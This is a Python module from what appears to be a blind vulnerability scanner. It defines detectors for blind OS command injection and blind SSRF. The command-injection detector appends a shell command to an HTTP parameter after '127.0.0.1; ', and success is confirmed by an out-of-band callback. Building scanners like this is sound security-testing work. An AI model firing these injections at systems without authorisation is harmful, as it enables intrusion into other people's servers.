from dataclasses import dataclass
from typing import Optional

import requests

from ..core.engine import BlindConfirmationEngine
from ..models import (
    CompiledPayload, DeliveryMode, ExecutionEnvironment, PayloadSpec, Protocol,
    VulnerabilityClass,
)
from .base import BlindDetector


@dataclass(frozen=True)
class HttpParameterTarget:
    url: str
    parameter: str
    method: str = "GET"

    def __str__(self):
        return f"{self.method} {self.url} [{self.parameter}]"


def send_parameter(http: requests.Session, target: HttpParameterTarget, value: str, timeout: float):
    method = target.method.upper()
    if method == "GET":
        resp = http.get(target.url, params={target.parameter: value}, timeout=timeout)
    else:
        resp = http.request(method, target.url, data={target.parameter: value}, timeout=timeout)
    # The response body is irrelevant; only the callback counts.
    resp.close()


class ParameterCommandInjection(BlindDetector):
    """Blind OS command injection through one HTTP parameter (`; <payload>`)."""
    ID = "blind_cmd_injection"
    NAME = "Blind Command Injection (HTTP parameter)"
    DESCRIPTION = "Injects a shell callback command into a request parameter."
    PROTOCOL = Protocol.HTTP

    def __init__(self, engine: BlindConfirmationEngine,
                 environment: ExecutionEnvironment = ExecutionEnvironment.LINUX_SHELL,
                 http: Optional[requests.Session] = None, timeout: float = 10.0):
        super().__init__(engine)
        self.environment = environment
        self.http = http or requests.Session()
        self.timeout = timeout

    def payload_spec(self, target: HttpParameterTarget) -> PayloadSpec:
        return PayloadSpec(self.environment, VulnerabilityClass.BLIND_RCE, DeliveryMode.DIRECT)

    def deliver(self, target: HttpParameterTarget, payload: CompiledPayload):
        send_parameter(self.http, target, f"127.0.0.1; {payload.payload}", self.timeout)


class BlindSsrf(BlindDetector):
    """Blind SSRF: the parameter receives a bare callback URL."""
    ID = "blind_ssrf"
    NAME = "Blind SSRF (HTTP parameter)"
    DESCRIPTION = "Submits a callback URL and waits for the target to fetch it."
    PROTOCOL = Protocol.ANY

    def __init__(self, engine: BlindConfirmationEngine, http: Optional[requests.Session] = None,
                 timeout: float = 10.0):
        super().__init__(engine)
        self.http = http or requests.Session()
        self.timeout = timeout

    def payload_spec(self, target: HttpParameterTarget) -> PayloadSpec:
        return PayloadSpec(ExecutionEnvironment.ANY, VulnerabilityClass.SSRF, DeliveryMode.DIRECT)

    def deliver(self, target: HttpParameterTarget, payload: CompiledPayload):
        send_parameter(self.http, target, payload.payload, self.timeout)
